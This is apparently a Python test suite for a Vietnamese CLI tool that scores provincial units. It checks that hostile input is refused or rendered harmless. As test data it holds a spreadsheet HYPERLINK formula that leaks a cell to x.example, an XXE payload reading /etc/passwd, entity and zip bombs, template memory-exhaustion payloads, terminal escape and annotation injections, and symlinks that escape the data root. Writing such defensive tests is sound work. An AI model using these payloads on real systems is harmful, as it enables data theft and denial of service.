"""Hostile input and faults: every case ends with a Vietnamese message and the right exit code, nothing leaks.

A unit is not always friendly, and documents built from its data go to the provincial council: everything a
unit sends back and everything in the data tree is untrusted (docs/an-toan.md).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from conftest import edit
from giaouoc.cli.app import app

runner = CliRunner()
YEAR = "compacts/2023"


def invoke(root: Path, *args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["--root", str(root), *args])
    return result.exit_code, result.stdout, result.stderr


def codes(root: Path) -> list[str]:
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    return sorted({p["code"] for p in json.loads(stdout)["problems"]})


def make_form(root: Path, tmp_path: Path, unit: str = "pa01") -> Path:
    path = tmp_path / f"phieu-{unit}.xlsx"
    assert invoke(root, "form", "2023", unit, "--xlsx", str(path))[0] == 0
    return path


# --- 1. formulas -----------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x.example/?d="&\'Kết quả\'!C6,"Xem minh chứng")'


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_text_that_looks_like_a_formula_stays_text_everywhere(root: Path, tmp_path: Path) -> None:
    edit(root / YEAR / "scores/pa01.yaml", "  1: {self: 8, block: 8}",
         f"  1: {{self: 8, block: 8, note: {json.dumps(FORMULA, ensure_ascii=False)}}}")
    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", "name: \"=1+2 Phòng Hồ sơ\"")
    assert invoke(root, "export", "2023", "--xlsx", str(tmp_path / "kq.xlsx"))[0] == 0
    form = make_form(root, tmp_path)
    assert "<f>" not in _sheet_xml(tmp_path / "kq.xlsx")  # no live formula in any sheet
    # the form's one formula is its own total row, never a unit's or a name's text
    assert re.findall(r"<f>(.*?)</f>", _sheet_xml(form)) == ["SUM(E6:E18)"]
    details = load_workbook(tmp_path / "kq.xlsx")["Chi tiết"]
    assert any(cell.value == FORMULA and cell.data_type == "s" for row in details.iter_rows() for cell in row)
    code, stdout, _ = invoke(root, "rank", "2023", "--format", "csv")
    assert code == 0 and ",'=1+2 Phòng Hồ sơ," in stdout  # OWASP: a leading quote


# --- 2. the hidden sheet and the visible form ---------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "value"), [("B3", "pa02"), ("B5", 0), ("B5", -5), ("B5", "abc"), ("B5", None),
                                             ("B5", 10**9), ("A6", "unit")])
def test_tampered_hidden_sheet_is_refused_and_names_the_cell(root: Path, tmp_path: Path, cell: str,
                                                             value: Any) -> None:
    form = make_form(root, tmp_path)
    workbook = load_workbook(form)
    workbook["giaouoc"][cell] = value
    workbook.save(form)
    before = {p.name: p.read_bytes() for p in (root / YEAR / "scores").iterdir()}
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code == 1 and "[form-mismatch]" in stderr and "Traceback" not in stderr
    assert before == {p.name: p.read_bytes() for p in (root / YEAR / "scores").iterdir()}


def test_every_import_message_names_the_unit_and_file(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    workbook = load_workbook(form)
    workbook["Tự chấm"]["E6"] = 7
    workbook.save(form)
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code == 0 and "«pa01»" in stderr and "compacts/2023/scores/pa01.yaml" in stderr


# --- 3. year folders -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["٢٠٢٣", "２０２３", "²", "2024-cu"])
def test_odd_year_folder_names_are_no_years(root: Path, name: str) -> None:
    (root / "compacts" / name).mkdir()
    code, stdout, stderr = invoke(root, "validate", "--format", "json")
    assert code == 0 and "Traceback" not in stderr
    problems = json.loads(stdout)["problems"]
    assert [(p["code"], p["severity"]) for p in problems] == [("stray-file", "warning")]
    assert invoke(root, "rank", name)[0] == 2


# --- 4. every bad input a message ---------------------------------------------------------------------------------

HUGE = "1" + "0" * 30


@pytest.mark.parametrize(("file", "old", "new", "code"), [
    ("scores/pa01.yaml", "  1: {self: 8, block: 8}", f"  1: {{self: 8, block: {HUGE}}}", "invalid-number"),
    ("scores/pa01.yaml", "  1: {self: 8, block: 8}", "  1: {self: 8, block: 1e28}", "invalid-number"),
    ("scores/pa01.yaml", "  1: {self: 8, block: 8}", "  1: {self: 8, block: 1e400}", "invalid-number"),
    ("compact.yaml", "total: 100", "total: 1e400", "invalid-number"),
    ("compact.yaml", "bonus_cap: 5", f"bonus_cap: {HUGE}", "invalid-number"),
    ("compact.yaml", "min_vote_share: 0.8", "min_vote_share: 1e400", "invalid-vote-share"),
    ("units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng Hồ sơ\\x7f\"", "control-char"),
    ("units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng Hồ sơ\\x9b\"", "control-char"),
    ("units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng Hồ sơ\\uffff\"", "control-char"),
    ("items.yaml", "    max: 12", "    max: " + "9" * 5000, "invalid-number"),
])
def test_values_that_crashed_are_messages(root: Path, file: str, old: str, new: str, code: str) -> None:
    edit(root / YEAR / file, old, new)
    assert code in codes(root)
    for args in (("rank", "2023"), ("render", "2023")):
        exit_code, _, stderr = invoke(root, *args)
        assert exit_code == 1 and "Traceback" not in stderr


@pytest.mark.skipif(os.geteuid() == 0 if hasattr(os, "geteuid") else True, reason="root reads every file")
def test_unreadable_file(root: Path) -> None:  # pragma: no cover - CI runs as root
    (root / YEAR / "units.yaml").chmod(0)
    assert "unreadable" in codes(root)


@pytest.mark.parametrize("make", ["dangling", "loop", "folder-yaml", "folder-md", "fifo"])
def test_odd_files_in_the_data_tree(root: Path, make: str) -> None:
    scores = root / YEAR / "scores"
    if make == "dangling":
        (scores / "pa10.yaml").symlink_to(root / "khong-co.yaml")
    elif make == "loop":
        (scores / "pa10.yaml").symlink_to(scores / "pa11.yaml")
        (scores / "pa11.yaml").symlink_to(scores / "pa10.yaml")
    elif make == "folder-yaml":
        (scores / "x.yaml").mkdir()
    elif make == "folder-md":
        (root / YEAR / "text" / "x.md").mkdir()
    else:
        os.mkfifo(scores / "pa10.yaml")
    code, stdout, stderr = invoke(root, "validate", "--format", "json")
    assert code in (0, 1) and "Traceback" not in stderr
    assert json.loads(stdout)["problems"] or make == "folder-md"


def test_import_when_the_year_holds_a_fifo_and_a_link_up(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    os.mkfifo(root / YEAR / "text" / "fifo")
    (root / YEAR / "text" / "up").symlink_to("..")
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code in (0, 1) and "Traceback" not in stderr and "nội bộ" not in stderr


def test_utf32_is_named(root: Path) -> None:
    (root / YEAR / "units.yaml").write_bytes("units: []\n".encode("utf-32"))
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    messages = [p["message"] for p in json.loads(stdout)["problems"] if p["code"] == "encoding"]
    assert messages and "UTF-32" in messages[0]


def test_oversized_data_file(root: Path) -> None:
    path = root / YEAR / "scores/pa01.yaml"
    path.write_bytes(b"# " + b"x" * (21 * 1024 * 1024) + b"\nunit: pa01\n")
    assert "file-too-large" in codes(root)


# --- 5. annotations -------------------------------------------------------------------------------------------------


def test_github_annotations_cannot_be_injected(root: Path) -> None:
    bad = root / YEAR / "scores" / "x\n::error file=README.md,line=1::hacked.txt"
    bad.write_text("x", encoding="utf-8")
    code, stdout, _ = invoke(root, "validate", "--format", "github")
    assert all(line.startswith("::") for line in stdout.splitlines())
    assert "::error file=README.md" not in stdout and "%0A%3A%3Aerror file=README.md%2Cline=1%3A%3A" in stdout


# --- 6. concurrent imports ----------------------------------------------------------------------------------------


def test_two_imports_of_one_unit_at_once_lose_nothing(root: Path, tmp_path: Path) -> None:
    forms = []
    for item, cell, other in ((1, "E6", "E7"), (2, "E7", "E6")):
        (tmp_path / str(item)).mkdir()
        form = make_form(root, tmp_path / str(item))
        workbook = load_workbook(form)
        workbook["Tự chấm"][cell] = 3
        workbook["Tự chấm"][other] = None  # a cleared cell leaves the score as it is
        workbook.save(form)
        forms.append(form)
    results: list[int] = []

    def run(form: Path) -> None:
        process = subprocess.run([sys.executable, "-m", "giaouoc", "--root", str(root), "import", "2023", str(form)],
                                 capture_output=True, text=True)
        results.append(process.returncode)

    threads = [threading.Thread(target=run, args=(f,)) for f in forms]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    text = (root / YEAR / "scores/pa01.yaml").read_text(encoding="utf-8")
    assert results == [0, 0]
    assert "  1: {self: 3" in text and "  2: {self: 3" in text


# --- 7. a "|" in a name --------------------------------------------------------------------------------------------


def test_pipe_in_a_name_keeps_every_table_column(root: Path) -> None:
    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", "name: Phòng Hồ sơ | Lưu trữ")
    assert codes(root) == []
    code, _, stderr = invoke(root, "render", "2023", "--docx")
    assert code == 0, stderr
    from docx import Document

    table = next(t for t in Document(str(root / "out/2023/bang-diem.docx")).tables if t.cell(0, 0).text == "TT")
    row = next(r for r in table.rows if "Lưu trữ" in r.cells[1].text)
    assert row.cells[1].text == "PV06 - Phòng Hồ sơ | Lưu trữ" and len(row.cells) == 21
    assert row.cells[2].text == "7"


def test_markup_in_names_stays_text_in_word(root: Path) -> None:
    """The Word files are written as XML text: a name that looks like markup is escaped, never obeyed."""
    from xml.etree import ElementTree

    from docx import Document

    hostile = 'Phòng Hồ sơ <w:p/> & "Lưu" ]]> </w:t>'
    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", f"name: '{hostile}'")
    edit(root / YEAR / "compact.yaml", "name: Khối thi đua An ninh nhân dân", "name: Khối thi đua An ninh & <nhân dân>")
    edit(root / YEAR / "compact.yaml", "[KHỐI THI ĐUA, AN NINH NHÂN DÂN]", "[KHỐI THI ĐUA, AN NINH & <NHÂN DÂN>]")
    code, _, stderr = invoke(root, "render", "2023", "--docx")
    assert code == 0, stderr
    for doc in ("giao-uoc", "bang-diem", "bien-ban", "to-trinh"):
        with zipfile.ZipFile(root / f"out/2023/{doc}.docx") as archive:
            for name in archive.namelist():
                if name.endswith((".xml", ".rels")):
                    ElementTree.fromstring(archive.read(name))  # every part is well-formed XML
        document = Document(str(root / f"out/2023/{doc}.docx"))
        texts = [p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows
                                                         for c in r.cells]
        assert any(hostile in text for text in texts), doc
    assert Document(str(root / "out/2023/to-trinh.docx")).core_properties.author == "KHỐI THI ĐUA AN NINH & <NHÂN DÂN>"


# --- 8. resources ----------------------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_before_it_is_opened(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    bomb = tmp_path / "bom.xlsx"
    with zipfile.ZipFile(form) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        target.writestr("xl/media/padding.bin", b"\0" * (60 * 1024 * 1024))
    assert bomb.stat().st_size < 1024 * 1024
    code, _, stderr = invoke(root, "import", "2023", str(bomb))
    assert code == 1 and "giải nén ra" in stderr


# --- 9. links out of the data root ---------------------------------------------------------------------------------


def test_a_text_file_linked_outside_the_root_is_refused(root: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    secret = tmp_path_factory.mktemp("ngoai") / "mat-khau.txt"
    secret.write_text("root:x:0:0\n", encoding="utf-8")
    text = root / YEAR / "text" / "giao-uoc.md"
    text.unlink()
    text.symlink_to(secret)
    assert "outside-root" in codes(root)
    code, _, _ = invoke(root, "render", "2023", "--doc", "giao-uoc")
    assert code == 1 and not (root / "out/2023/giao-uoc.md").exists()


# --- 10. templates ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("body", [
    "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
    "{{ 'a' * 10**9 }}", "{{ '{:>999999999}'.format(1) }}", "{{ 'x'.center(10**9) }}", "{{ lipsum(n=10**6) }}",
    "{{ '%999999999d' % 1 }}", "{{ units.clear() }}", "{{ 2 ** 100000 }}",
])
def test_templates_are_bounded_and_cannot_change_the_data(root: Path, body: str) -> None:
    (root / "templates").mkdir()
    (root / "templates" / "bang-diem.md.j2").write_text(f"---\nid: bang-diem\n---\n{body}\n", encoding="utf-8")
    code, _, stderr = invoke(root, "render", "2023", "--doc", "bang-diem")
    assert code == 1 and "Traceback" not in stderr and "bang-diem.md.j2" in stderr
    code, _, stderr = invoke(root, "render", "2023", "--doc", "to-trinh")  # the default documents are untouched
    assert code == 0, stderr


# --- 11. outputs never overwrite data ---------------------------------------------------------------------------


@pytest.mark.parametrize("args", [
    ("form", "2023", "pa01", "--xlsx", "compacts/2023/scores/pa01.yaml"),
    ("export", "2023", "--xlsx", "compacts/2023/units.yaml"),
    ("render", "2023", "--out", "compacts/2023/text"),
])
def test_outputs_into_compacts_are_refused(root: Path, args: tuple[str, ...]) -> None:
    before = {p: p.read_bytes() for p in (root / "compacts").rglob("*") if p.is_file()}
    full = [a if not a.startswith("compacts/") else str(root / a) for a in args]
    code, _, stderr = invoke(root, *full)
    assert code == 2 and "compacts/" in stderr
    assert before == {p: p.read_bytes() for p in (root / "compacts").rglob("*") if p.is_file()}


def test_output_path_mistakes_are_usage_errors(root: Path, tmp_path: Path) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("x", encoding="utf-8")
    assert invoke(root, "export", "2023", "--xlsx", str(tmp_path))[0] == 2  # a folder where a file is wanted
    assert invoke(root, "render", "2023", "--out", str(a_file))[0] == 2  # a file where a folder is wanted


# --- 12. Markdown for merge requests --------------------------------------------------------------------------------


def test_diff_markdown_escapes_what_units_wrote(root: Path) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run(["git", "-C", str(root), "add", "."], check=True)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "a"],
                   check=True)
    edit(root / YEAR / "scores/pa01.yaml", "  1: {self: 8, block: 8}",
         "  1: {self: 8, block: 8, note: \"# Tiêu đề ![ảnh](http://x/y.png) @cuc-truong <script>\"}")
    code, stdout, _ = invoke(root, "diff", "2023", "--format", "markdown")
    assert code == 0
    assert "\\# Tiêu đề \\!\\[ảnh\\](http\\://x/y.png) \\@cuc-truong \\<script\\>" in stdout


# --- 13. writes ------------------------------------------------------------------------------------------------------


def test_writes_keep_modes_and_refuse_links(root: Path, tmp_path: Path) -> None:
    target = tmp_path / "kq.xlsx"
    target.write_bytes(b"")
    target.chmod(0o644)
    assert invoke(root, "export", "2023", "--xlsx", str(target))[0] == 0
    assert target.stat().st_mode & 0o777 == 0o644
    link = tmp_path / "lien-ket.xlsx"
    link.symlink_to(tmp_path / "that.xlsx")
    code, _, stderr = invoke(root, "export", "2023", "--xlsx", str(link))
    assert code == 2 and "liên kết" in stderr and not (tmp_path / "that.xlsx").exists()


# --- 14. notes read back identical ---------------------------------------------------------------------------------


def test_notes_with_breaks_and_tabs_read_back_identical(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    note = "Dòng một\nDòng hai\tcó tab, dấu phẩy: và \"ngoặc\""
    workbook = load_workbook(form)
    workbook["Tự chấm"]["F6"] = note
    workbook.save(form)
    assert invoke(root, "import", "2023", str(form))[0] == 0
    import yaml

    data = yaml.load((root / YEAR / "scores/pa01.yaml").read_text(encoding="utf-8"), Loader=yaml.SafeLoader)
    assert data["scores"][1]["note"] == note
    assert codes(root) == []


# --- 16. interrupted runs -------------------------------------------------------------------------------------------


def test_a_stop_request_cleans_up_and_says_so(root: Path) -> None:
    import signal

    process = subprocess.Popen([sys.executable, "-c", (
        "import signal, sys, time\n"
        "from giaouoc.cli.app import main\n"
        "import giaouoc.history.check as check\n"
        "def slow(*a, **k):\n    time.sleep(30)\n"
        "check.load_block = slow\n"
        f"sys.exit(main(['--root', {str(root)!r}, 'validate']))\n")], stderr=subprocess.PIPE, text=True)
    import time

    time.sleep(1.5)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=20)
    assert process.returncode == 130 and "Đã dừng." in stderr


# ===== Round 2 (issue 21) ===========================================================================================

HIDDEN_CHARS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066")


def _shows_nothing_hidden(*texts: str) -> None:
    for text in texts:
        assert not any(c in text for c in HIDDEN_CHARS), repr(text[:300])


# --- R1. terminal control sequences ------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", ["pa01\\e]52;c;SGFja2Vk\\a\\e[2J", "\\e]8;;http://x.example\\e\\\\bấm\\e]8;;\\e\\\\",
                                     "pa01\\nĐã ghi compacts/2023/scores/pa01.yaml", "pa01\\x9b31m", "pa\\u202e10"])
def test_control_sequences_in_data_never_reach_the_terminal(root: Path, payload: str) -> None:
    edit(root / YEAR / "units.yaml", "- id: pa01", f'- id: "{payload}"')
    (root / YEAR / "scores" / "x\x1b[2J\u202e.txt").write_text("x", encoding="utf-8")
    for fmt in ("text", "json", "github"):
        code, stdout, stderr = invoke(root, "validate", "--format", fmt)
        assert code == 1
        _shows_nothing_hidden(stdout, stderr)
        assert not any(line.startswith("Đã ghi") for line in (stdout + stderr).splitlines())
    assert "\\e[2J" in invoke(root, "validate")[1]  # made visible, not dropped


def test_direction_marks_in_names_are_visible_in_every_output(root: Path) -> None:
    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng \\u202eơs ồH\"")
    assert "bidi-char" in codes(root)
    for args in (("rank", "2023"), ("rank", "2023", "--format", "markdown"), ("rank", "2023", "--format", "json"),
                 ("rank", "2023", "--format", "csv"), ("rank", "2023", "--explain", "pv06"), ("status", "2023"),
                 ("history",), ("history", "--format", "markdown")):
        code, stdout, stderr = invoke(root, *args)
        assert code == 0, (args, stderr)
        _shows_nothing_hidden(stdout, stderr)
    assert json.loads(invoke(root, "rank", "2023", "--format", "json")[1])  # still valid JSON, same data


def test_rich_markup_in_data_is_text(root: Path) -> None:
    edit(root / YEAR / "units.yaml", "short: PA01", "short: \"[b]PA01[/b]\"")
    code, stdout, _ = invoke(root, "rank", "2023")
    assert code == 0 and "[b]PA01[/b]" in stdout


def test_reopen_reason_with_controls_is_refused_at_the_command(root: Path) -> None:
    before = {p.name: p.read_bytes() for p in (root / YEAR).iterdir() if p.is_file()}
    for reason in ("\x1b[31mđỏ", "dòng 1\ndòng 2", "lý do \u202e"):
        code, _, stderr = invoke(root, "reopen", "2023", "--reason", reason)
        assert code == 2 and "ký tự điều khiển" in stderr
        _shows_nothing_hidden(stderr)
    assert before == {p.name: p.read_bytes() for p in (root / YEAR).iterdir() if p.is_file()}


# --- R2. links out of the root, at every level; templates ----------------------------------------------------------


@pytest.mark.parametrize("folder", ["text", "text/thanh-tich", "scores"])
def test_a_folder_linked_outside_the_root_is_refused(root: Path, tmp_path_factory: pytest.TempPathFactory,
                                                    folder: str) -> None:
    import shutil

    outside = tmp_path_factory.mktemp("ngoai") / "copy"
    shutil.copytree(root / YEAR / folder, outside)
    for path in outside.rglob("*.md"):
        path.write_text(path.read_text(encoding="utf-8") + "\nBÍ MẬT NGOÀI DỮ LIỆU\n", encoding="utf-8")
    shutil.rmtree(root / YEAR / folder)
    (root / YEAR / folder).symlink_to(outside, target_is_directory=True)
    assert "outside-root" in codes(root)
    invoke(root, "render", "2023", "--draft")
    assert not any("BÍ MẬT" in p.read_text(encoding="utf-8") for p in (root / "out").rglob("*.md"))


@pytest.mark.parametrize("where", ["include", "import", "extends"])
def test_a_template_linked_outside_the_root_is_refused(root: Path, tmp_path_factory: pytest.TempPathFactory,
                                                      where: str) -> None:
    secret = tmp_path_factory.mktemp("ngoai") / "mat-khau"
    secret.write_text("root:x:0:0 BÍ MẬT\n", encoding="utf-8")
    (root / "templates").mkdir()
    (root / "templates" / "p.j2").symlink_to(secret)
    body = {"include": "{% include 'p.j2' %}", "import": "{% import 'p.j2' as p %}",
            "extends": "{% extends 'p.j2' %}"}[where]
    (root / "templates" / "bang-diem.md.j2").write_text(f"---\nid: bang-diem\n---\n{body}\n", encoding="utf-8")
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    assert code == 1 and "outside-root" in {p["code"] for p in json.loads(stdout)["problems"]}
    code, stdout, stderr = invoke(root, "render", "2023", "--doc", "bang-diem")
    assert code == 1 and "ngoài thư mục dữ liệu" in stderr and "BÍ MẬT" not in stdout + stderr


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "dev-urandom"])
def test_templates_that_are_no_regular_files_are_not_read(root: Path, kind: str) -> None:
    (root / "templates").mkdir()
    path = root / "templates" / "bang-diem.md.j2"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero" if kind == "dev-zero" else "/dev/urandom")
    code, stdout, stderr = invoke(root, "validate", "--format", "json")
    assert code == 1 and "Traceback" not in stderr
    assert {p["code"] for p in json.loads(stdout)["problems"]} & {"unreadable", "outside-root"}
    assert invoke(root, "render", "2023", "--doc", "bang-diem")[0] == 1


# --- R3. sealed years and links -----------------------------------------------------------------------------------


def test_links_out_of_a_year_are_sealed_as_links_and_refuse_close(tmp_path: Path) -> None:
    from giaouoc.errors import DataError
    from giaouoc.history.seal import refuse_links_out
    from giaouoc.load.seal import links_out, sealed_files

    year, elsewhere = tmp_path / "2023", tmp_path / "noi-khac"
    (year / "text").mkdir(parents=True)
    elsewhere.mkdir()
    (elsewhere / "pa01.md").write_text("a", encoding="utf-8")
    (year / "units.yaml").write_text("units: []\n", encoding="utf-8")
    refuse_links_out(year)  # no link: nothing to refuse
    (year / "text" / "thanh-tich").symlink_to(elsewhere, target_is_directory=True)
    (year / "text" / "x.md").symlink_to(elsewhere / "pa01.md")
    (year / "text" / "y.md").symlink_to(year / "units.yaml")  # inside the year: fine
    assert links_out(year) == ["text/thanh-tich", "text/x.md"]
    sealed = sealed_files(year)
    assert "text/thanh-tich" in sealed and "text/x.md" in sealed
    with pytest.raises(DataError, match="liên kết"):
        refuse_links_out(year)


@pytest.mark.parametrize("what", ["file", "folder"])
def test_close_refuses_a_year_with_links_out_and_a_link_added_later_breaks_the_seal(
        tmp_path: Path, what: str) -> None:
    import shutil

    from conftest import without_history
    from test_history import SAMPLE, closable

    root = tmp_path / "du-lieu"
    shutil.copytree(SAMPLE, root / YEAR)
    without_history(root / YEAR)
    closable(root)
    elsewhere = root / "dung-chung"  # inside the root, outside the year: it could change after close
    (elsewhere / "thanh-tich").mkdir(parents=True)
    (elsewhere / "thanh-tich" / "pa01.md").write_text("Thành tích.\n", encoding="utf-8")
    link = root / YEAR / "text" / ("ghi-chu.md" if what == "file" else "phu-luc")
    link.symlink_to(elsewhere / "thanh-tich" / "pa01.md" if what == "file" else elsewhere / "thanh-tich")
    code, _, stderr = invoke(root, "close", "2023")
    assert code == 1 and "liên kết" in stderr and "text/" in stderr
    assert not (root / YEAR / "closed.yaml").exists()
    link.unlink()
    assert invoke(root, "close", "2023")[0] == 0
    link.symlink_to(elsewhere / "thanh-tich", target_is_directory=True) if what == "folder" else \
        link.symlink_to(elsewhere / "thanh-tich" / "pa01.md")
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    changed = [p for p in json.loads(stdout)["problems"] if p["code"] == "closed-year-changed"]
    assert code == 1 and [p["file"] for p in changed] == [f"{YEAR}/text/{link.name}"]


# --- R4. template sizes -----------------------------------------------------------------------------------------------

WORST_TEMPLATE = ("{% set ns = namespace(x='ab') %}{% for i in range(60) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
                  "{{ ('a'*100000).replace('a', 'b'*100000) }}")


@pytest.mark.parametrize("body", [
    "{{ ('a'*100000).replace('a','b'*100000) }}", "{{ 'x'|center(2*10**9) }}",
    "{{ ('a\\n'*50000)|indent(100000) }}", "{{ ('a'*100000)|replace('a', 'bb'*1000) }}",
    "{% set ns = namespace(x='ab') %}{% for i in range(60) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
    "{% set ns = namespace(x='ab') %}{% for i in range(60) %}{% set ns.x = ns.x + ns.x %}{% endfor %}",
    "{% set ns = namespace(x=['a']) %}{% for i in range(60) %}{% set ns.x = ns.x + ns.x %}{% endfor %}",
    "{{ (['x'*100000]*1000)|join }}", "{{ ''.join(['x'*100000]*1000) }}", "{{ ('\\t'*100000).expandtabs(100000) }}",
    "{% set ns = namespace(x='ab') %}{% for i in range(60) %}{% set ns.x = '{}{}'.format(ns.x, ns.x) %}{% endfor %}",
    "{{ ('a'*100000)|replace('', 'y'*100) }}", "{{ ('{0}' * 30000).format('z' * 100000) }}",
    "{% macro f(s) %}{{ f(s ~ s) }}{% endmacro %}{{ f('ab') }}",
])
def test_template_growth_is_refused_before_the_work(root: Path, body: str) -> None:
    (root / "templates").mkdir()
    (root / "templates" / "bang-diem.md.j2").write_text(f"---\nid: bang-diem\n---\n{body}\n", encoding="utf-8")
    code, _, stderr = invoke(root, "render", "2023", "--doc", "bang-diem")
    assert code == 1 and "bang-diem.md.j2" in stderr and "Traceback" not in stderr
    assert re.search(r"sẽ dài \d+|quá lớn cho bộ lọc|lồng quá sâu|bộ nhớ", stderr), stderr  # what was too big


def test_the_worst_template_under_one_gigabyte_gets_a_message(root: Path) -> None:
    (root / "templates").mkdir()
    (root / "templates" / "bang-diem.md.j2").write_text(f"---\nid: bang-diem\n---\n{WORST_TEMPLATE}\n",
                                                      encoding="utf-8")
    script = ("import resource, sys\n"
              "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
              "from giaouoc.cli.app import main\n"
              f"sys.exit(main(['--root', {str(root)!r}, 'render', '2023', '--doc', 'bang-diem']))\n")
    process = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert process.returncode == 1, process.stderr
    assert "bang-diem.md.j2" in process.stderr and "quá giới hạn" in process.stderr


def test_running_out_of_memory_in_a_template_says_so(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import giaouoc.documents.render as render

    def no_memory(chunks: Any) -> str:
        raise MemoryError

    monkeypatch.setattr(render, "bounded", no_memory)
    code, _, stderr = invoke(root, "render", "2023", "--doc", "bang-diem")
    assert code == 1 and "bộ nhớ" in stderr and "bang-diem.md.j2" in stderr and not stderr.rstrip().endswith(":")


# --- R5. every bad input a message, never exit 3 ------------------------------------------------------------------

BOMB = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
        '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>')
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'


def _rewrite_form(form: Path, cell: str | None, doctype: str | None = None, cut: bool = False) -> None:
    with zipfile.ZipFile(form) as source:
        parts = {info.filename: source.read(info.filename) for info in source.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    xml = parts[sheet].decode("utf-8")
    if cell is not None:
        xml = re.sub(r'<c r="E6"[^>]*?(/>|>.*?</c>)', cell.replace("\\", "\\\\"), xml, count=1)
    if doctype is not None:
        xml = re.sub(r"^<\?xml[^>]*\?>", "", xml)
        xml = doctype + xml.replace("<sheetData>", "<sheetData>", 1)
        xml = re.sub(r'<c r="E6"[^>]*?(/>|>.*?</c>)', '<c r="E6" t="inlineStr"><is><t>&f;&s;</t></is></c>'
                     if "ENTITY f" in doctype else '<c r="E6" t="inlineStr"><is><t>&s;</t></is></c>', xml, count=1)
    data = xml.encode("utf-8")
    parts[sheet] = data[: len(data) // 2] if cut else data
    with zipfile.ZipFile(form, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)


@pytest.mark.parametrize("cell", [
    '<c r="E6"><v>NaN</v></c>', '<c r="E6"><v>INF</v></c>', '<c r="E6"><v>abc</v></c>', '<c r="E6"><v>0x8</v></c>',
    '<c r="E6" t="e"><v>#DIV/0!</v></c>', '<c r="E6" t="s"><v>99999</v></c>', '<c r="E6" t="s"><v>-1</v></c>',
    '<c r="E6" t="inlineStr"><is><t>a&#11;b</t></is></c>', '<c r="E6" t="b"><v>7</v></c>',
    '<c r="E6" t="d"><v>không phải ngày</v></c>', "truncated", "bomb", "xxe",
])
def test_broken_form_cells_are_messages(root: Path, tmp_path: Path, cell: str) -> None:
    form = make_form(root, tmp_path)
    if cell == "truncated":
        _rewrite_form(form, None, cut=True)
    elif cell in ("bomb", "xxe"):
        _rewrite_form(form, None, doctype=BOMB + "" if cell == "bomb" else XXE)
    else:
        _rewrite_form(form, cell)
    code, stdout, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code == 1 and "Traceback" not in stderr and "nội bộ" not in stderr, stderr
    assert "root:x" not in stdout + stderr


@pytest.mark.parametrize("value", ["23,²", "٢٣,5", "6,13", "6,-1", "1e3,2", "31", "31,0"])
def test_hidden_sheet_positions_must_match_the_visible_form(root: Path, tmp_path: Path, value: str) -> None:
    form = make_form(root, tmp_path)
    for cell in ("B6", "B7"):
        workbook = load_workbook(form)
        workbook["giaouoc"][cell] = value
        workbook.save(form)
        code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
        assert code == 1 and "[form-mismatch]" in stderr and "Traceback" not in stderr, stderr


